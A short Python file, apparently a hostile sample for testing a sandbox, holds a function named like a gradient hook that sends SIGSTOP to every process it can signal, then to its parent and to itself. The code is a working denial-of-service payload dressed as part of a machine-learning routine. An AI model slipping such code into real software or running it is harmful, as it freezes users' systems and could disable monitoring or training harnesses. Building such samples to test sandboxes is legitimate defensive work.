"""Stops every process that it may.

lint: REFUSED
wall: FAIL or TIMEOUT
defends: P4 P8
"""

import os
import signal


def _hole(grad_output, ctx):
    os.kill(-1, signal.SIGSTOP)
    os.kill(os.getppid(), signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)
    return _right(grad_output, ctx)
